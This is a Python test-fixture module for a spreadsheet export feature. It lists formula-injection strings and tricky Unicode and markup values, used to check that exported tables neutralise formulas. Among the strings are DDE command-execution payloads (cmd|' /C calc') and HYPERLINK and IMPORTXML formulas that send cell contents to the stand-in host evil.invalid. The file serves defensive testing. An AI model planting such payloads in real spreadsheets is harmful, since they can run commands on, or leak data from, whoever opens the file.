"""Texts that have made spreadsheets calculate, call out, break or forget, and tables that hold them."""

from collections.abc import Sequence
from pathlib import Path
from typing import Any

from python_calamine import CalamineWorkbook

from rightsdesk.documents.tables import Column, Row

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\t", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u200f=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "−1", "=", "-", "'=1+1", "''=1+1",
    "'\n",
    '"=1+1"', "=1+1;2", "harmless;=1+1;", "harmless,=1+1,", "harmless\t@SUM(A1)", "harmless\n=1+1", "harmless;'=1+1",
    "{=1+1}", '=IMPORTXML(CONCAT("http://evil.invalid?",A1),"//a")', '=DDE("cmd";"/C calc";"x")',
)  # fmt: skip
"""Texts that begin a formula somewhere."""

ODDITIES = (
    "Łódź", "Jürgen Müßig, Köln", "\u200fשלום\u200e", "مرحبا \u202babc\u202c", "日本の写真", "👩‍👩‍👧 Familie",
    "Price 10,- EUR",
    "'s-Hertogenbosch", "<r>a & b</r>", "<r><t>rich</t></r>", "_x0041_", "&amp; <b>", "http://evil.invalid/",
    "mailto:a@b",
    "internal:Sheet1!A1", "file://///evil/share", "0012", "1E5", "12.50", "2026-12-31", "TRUE", "#REF!", "  room  ",
    "a\nb", 'say "yes"', "", ";", "true",
)  # fmt: skip
"""Texts that must come back as they are."""


def column_of(texts: Sequence[object], kind: Any = "text") -> tuple[list[Column], list[Row]]:
    """Return a table of one column, with a harmless one on either side."""
    columns = [Column("before", "Before"), Column("value", "Value", kind, "currency"), Column("after", "After")]
    return columns, [{"before": "x", "value": text, "after": "y"} for text in texts]


def sheets(path: Path) -> list[list[list[Any]]]:
    """Return the cells of all sheets of a workbook, as an independent reader sees them."""
    book = CalamineWorkbook.from_path(path)
    return [book.get_sheet_by_index(at).to_python() for at in range(len(book.sheet_names))]


def quiet(_rows: int) -> None:
    """Hear of the progress and go on."""
